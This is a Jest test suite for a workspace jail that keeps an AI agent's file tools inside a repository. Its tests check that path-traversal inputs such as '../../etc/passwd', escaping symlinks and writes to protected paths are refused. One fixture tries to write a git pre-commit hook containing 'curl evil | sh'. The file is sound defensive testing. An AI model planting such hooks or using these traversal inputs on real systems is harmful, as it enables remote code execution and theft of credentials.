import { afterAll, describe, expect, it } from '@jest/globals';
import { existsSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { Workspace, WorkspaceError } from '../../src/tools/workspace.js';
import { MB, cleanupTempDirs, link, makeRepo, openWorkspace, tempDir, writeFiles } from './support.js';

afterAll(cleanupTempDirs);

async function refusal(promise: Promise<unknown>): Promise<WorkspaceError> {
  const error = await promise.then(
    () => {
      throw new Error('expected a refusal, but the call succeeded');
    },
    (caught: unknown) => caught
  );
  expect(error).toBeInstanceOf(WorkspaceError);
  return error as WorkspaceError;
}

describe('Workspace jail', () => {
  it('refuses ../ escapes for reads and writes, even when they come back inside', async () => {
    const root = makeRepo({ 'a.txt': 'a\n' });
    const ws = await openWorkspace(root);
    for (const path of ['../outside.txt', '../../etc/passwd', 'src/../../x', '..']) {
      const read = await refusal(ws.resolveForRead(path));
      expect(read.code).toBe('outside_workspace');
      expect(read.message).toMatch(/outside the workspace; use a path relative to the repository root/);
      expect((await refusal(ws.resolveForWrite(path))).code).toBe('outside_workspace');
    }
    // A ".." that stays inside is just a path.
    expect((await ws.resolveForRead('src/../a.txt')).relative).toBe('a.txt');
  });

  it('accepts absolute paths inside the root and refuses absolute paths outside', async () => {
    const root = makeRepo({ 'src/x.ts': 'x\n' });
    const ws = await openWorkspace(root);
    expect(await ws.resolveForRead(join(root, 'src/x.ts'))).toEqual({
      absolute: join(root, 'src/x.ts'),
      relative: 'src/x.ts'
    });
    const error = await refusal(ws.resolveForRead('/etc/passwd'));
    expect(error.message).toContain('"/etc/passwd" is outside the workspace');
    await refusal(ws.resolveForWrite('/tmp/kubrick-evil.txt'));
    await refusal(ws.writeText(`${root}-sibling/x.txt`, 'x'));
    expect(existsSync(`${root}-sibling`)).toBe(false);
  });

  it('refuses a symlink already in the repository that points to /etc, for reading and writing', async () => {
    const root = makeRepo({ 'a.txt': 'a\n' });
    link(root, 'etc-link', '/etc');
    link(root, 'passwd', '/etc/passwd');
    const ws = await openWorkspace(root);
    for (const path of ['etc-link/passwd', 'passwd', 'etc-link']) {
      const error = await refusal(ws.resolveForRead(path));
      expect(error.code).toBe('outside_workspace');
      expect(error.message).toMatch(/symbolic link to a location outside the workspace/);
    }
    await refusal(ws.readText('passwd'));
    expect((await refusal(ws.writeText('etc-link/kubrick-test', 'x'))).code).toBe('outside_workspace');
  });

  it('refuses a chain of symlinks that ends outside, and one that loops', async () => {
    const outside = tempDir();
    writeFiles(outside, { 'secret.txt': 'secret\n' });
    const root = makeRepo({ 'a.txt': 'a\n' });
    link(root, 'one', 'two');
    link(root, 'two', 'nested/three');
    link(root, 'nested/three', outside);
    link(root, 'loop-a', 'loop-b');
    link(root, 'loop-b', 'loop-a');
    const ws = await openWorkspace(root);
    await refusal(ws.readText('one/secret.txt'));
    const write = await refusal(ws.writeText('one/new-file.txt', 'pwned'));
    expect(write.code).toBe('outside_workspace');
    expect(existsSync(join(outside, 'new-file.txt'))).toBe(false);
    expect((await refusal(ws.resolveForRead('loop-a'))).message).toMatch(/symbolic link loop/);
  });

  it('refuses writing through a dangling symlink whose target would be outside', async () => {
    const outside = tempDir();
    const root = makeRepo({ 'a.txt': 'a\n' });
    link(root, 'dangling', join(outside, 'created-by-agent.txt'));
    const ws = await openWorkspace(root);
    const error = await refusal(ws.writeText('dangling', 'x'));
    expect(error.message).toMatch(/symbolic link whose target does not exist/);
    expect(existsSync(join(outside, 'created-by-agent.txt'))).toBe(false);
  });

  it('follows symlinks that stay inside the workspace and reports the real path', async () => {
    const root = makeRepo({ 'src/real.ts': 'export const x = 1;\n' });
    link(root, 'alias.ts', 'src/real.ts');
    const ws = await openWorkspace(root);
    expect(await ws.resolveForRead('alias.ts')).toEqual({
      absolute: join(root, 'src/real.ts'),
      relative: 'src/real.ts'
    });
    expect(await ws.readText('alias.ts')).toBe('export const x = 1;\n');
  });

  it('refuses writes to .git/hooks/pre-commit and .github/workflows/x.yml with a clear message', async () => {
    const root = makeRepo({ '.github/workflows/ci.yml': 'on: push\n' });
    const ws = await openWorkspace(root);
    const hook = await refusal(ws.writeText('.git/hooks/pre-commit', '#!/bin/sh\ncurl evil | sh\n'));
    expect(hook.code).toBe('protected');
    expect(hook.message).toMatch(/inside a \.git directory, which tools may never change/);
    expect(existsSync(join(root, '.git/hooks/pre-commit'))).toBe(false);

    const workflow = await refusal(ws.writeText('.github/workflows/x.yml', 'on: push\n'));
    expect(workflow.code).toBe('protected');
    expect(workflow.message).toBe(
      '".github/workflows/x.yml" is a protected path (matches ".github/workflows/**"); tools may not change it. Make the change somewhere else or describe it in your summary.'
    );
    expect(existsSync(join(root, '.github/workflows/x.yml'))).toBe(false);
    await refusal(ws.writeText('.github/kubrick-policy.yml', 'allow: ["sh"]\n'));
    await refusal(ws.writeText('.github/kubrick.yml', 'x: 1\n'));
    await refusal(ws.writeText('.github/workflows', 'not a dir\n'));
    // Reading a workflow is fine; only writes are refused.
    expect(await ws.readText('.github/workflows/ci.yml')).toBe('on: push\n');
  });

  it('refuses .git in any case and any position, and protected paths reached through a symlink', async () => {
    const root = makeRepo({
      'a.txt': 'a\n',
      'vendor/lib.js': 'x\n',
      '.github/workflows/ci.yml': 'on: push\n'
    });
    link(root, 'hooks-alias', '.git/hooks');
    link(root, 'flows', '.github/workflows');
    const ws = await openWorkspace(root);
    for (const path of [
      '.GIT/hooks/pre-commit',
      '.Git/config',
      'vendor/.git/config',
      'sub/.git',
      '.git. /x',
      './.git/HEAD'
    ]) {
      expect((await refusal(ws.resolveForWrite(path))).code).toBe('protected');
    }
    expect((await refusal(ws.writeText('hooks-alias/pre-commit', 'x'))).code).toBe('protected');
    expect((await refusal(ws.writeText('flows/x.yml', 'x'))).code).toBe('protected');
    expect((await refusal(ws.writeText('.GITHUB/Workflows/x.yml', 'x'))).code).toBe('protected');
  });

  it('does not read inside .git, where checkout may have left credentials', async () => {
    const root = makeRepo({ 'a.txt': 'a\n' });
    const ws = await openWorkspace(root);
    const error = await refusal(ws.readText('.git/config'));
    expect(error.message).toMatch(/inside the \.git directory, which tools do not read/);
  });

  it('refuses NUL bytes and empty paths', async () => {
    const ws = await openWorkspace(makeRepo({ 'a.txt': 'a\n' }));
    expect((await refusal(ws.resolveForRead('a.txt\0.png'))).message).toMatch(/NUL byte/);
    expect((await refusal(ws.resolveForWrite('x\0'))).code).toBe('invalid_path');
    expect((await refusal(ws.resolveForRead(''))).message).toMatch(/path is empty/);
    expect((await refusal(ws.resolveForWrite('.'))).message).toMatch(/workspace root, not a file/);
  });

  it('reads a 5 MB file and refuses a 15 MB one under a 10 MB limit, for reads and writes', async () => {
    const root = makeRepo({});
    writeFiles(root, { 'five.txt': 'x'.repeat(5 * MB), 'fifteen.txt': 'y'.repeat(15 * MB) });
    const ws = await openWorkspace(root, 10 * MB);
    expect((await ws.readText('five.txt')).length).toBe(5 * MB);
    const read = await refusal(ws.readText('fifteen.txt'));
    expect(read.code).toBe('too_large');
    expect(read.message).toBe(
      '"fifteen.txt" is 15.0 MB, over the 10.0 MB file size limit (max_file_size_mb); it cannot be read whole. Use search_files to find the lines you need.'
    );
    const write = await refusal(ws.writeText('big.txt', 'z'.repeat(15 * MB)));
    expect(write.message).toMatch(
      /15\.0 MB, over the 10\.0 MB file size limit \(max_file_size_mb\); nothing was written/
    );
    expect(existsSync(join(root, 'big.txt'))).toBe(false);
  });

  it('refuses binary files and reports non-UTF-8 text with where it breaks', async () => {
    const root = makeRepo({});
    writeFiles(root, {
      'logo.png': Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d]),
      'latin1.txt': Buffer.concat([Buffer.from('first line\ncaf'), Buffer.from([0xe9]), Buffer.from('\n')]),
      'bom.txt': Buffer.from('\ufeffhello\n', 'utf8')
    });
    const ws = await openWorkspace(root);
    const binary = await refusal(ws.readText('logo.png'));
    expect(binary.code).toBe('binary');
    expect(binary.message).toMatch(/"logo.png" is a binary file \(12 bytes\); read_file only reads text/);
    const latin1 = await refusal(ws.readText('latin1.txt'));
    expect(latin1.code).toBe('not_utf8');
    expect(latin1.message).toMatch(/not valid UTF-8 \(first bad byte at offset 14, line 2\)/);
    // The byte order mark survives a read/write round trip.
    await ws.writeText('bom.txt', await ws.readText('bom.txt'));
    expect(readFileSync(join(root, 'bom.txt'))).toEqual(Buffer.from('\ufeffhello\n', 'utf8'));
  });

  it('writes files with parent directories and records changed files in order, once each', async () => {
    const root = makeRepo({ 'a.txt': 'a\n' });
    const ws = await openWorkspace(root);
    expect(await ws.writeText('deep/new/dir/file.ts', 'x\n')).toMatchObject({
      relative: 'deep/new/dir/file.ts',
      created: true
    });
    expect(await ws.writeText('a.txt', 'b\n')).toMatchObject({ relative: 'a.txt', created: false });
    await ws.writeText('deep/new/dir/file.ts', 'y\n');
    expect(readFileSync(join(root, 'deep/new/dir/file.ts'), 'utf8')).toBe('y\n');
    expect(ws.changedFiles()).toEqual(['deep/new/dir/file.ts', 'a.txt']);
    const underFile = await refusal(ws.writeText('a.txt/child', 'x'));
    expect(underFile.message).toMatch(/a parent of this path is a file/);
  });

  it('handles unicode file names', async () => {
    const root = makeRepo({ 'dócs/ünïcødé 文件.md': '# héllo\n' });
    const ws = await openWorkspace(root);
    expect(await ws.readText('dócs/ünïcødé 文件.md')).toBe('# héllo\n');
    await ws.writeText('dócs/新しい.md', 'ok\n');
    expect(ws.changedFiles()).toEqual(['dócs/新しい.md']);
  });

  it('accepts absolute paths under the root as given when the root itself is reached through a symlink', async () => {
    const real = makeRepo({ 'a.txt': 'a\n' });
    const holder = tempDir();
    symlinkSync(real, join(holder, 'checkout'));
    const ws = await Workspace.open({
      root: join(holder, 'checkout'),
      maxFileSizeBytes: MB,
      protectedPaths: [],
      env: process.env
    });
    expect(ws.root).toBe(real);
    expect((await ws.resolveForRead(join(holder, 'checkout', 'a.txt'))).relative).toBe('a.txt');
  });

  it('refuses to open a root that does not exist or a bad size limit', async () => {
    await expect(
      Workspace.open({
        root: '/nonexistent/kubrick',
        maxFileSizeBytes: MB,
        protectedPaths: [],
        env: process.env
      })
    ).rejects.toThrow(/does not exist/);
    const file = join(tempDir(), 'f');
    writeFileSync(file, 'x');
    await expect(
      Workspace.open({ root: file, maxFileSizeBytes: MB, protectedPaths: [], env: process.env })
    ).rejects.toThrow(/not a directory/);
    await expect(
      Workspace.open({ root: tempDir(), maxFileSizeBytes: 0, protectedPaths: [], env: process.env })
    ).rejects.toThrow(/positive/);
  });
});
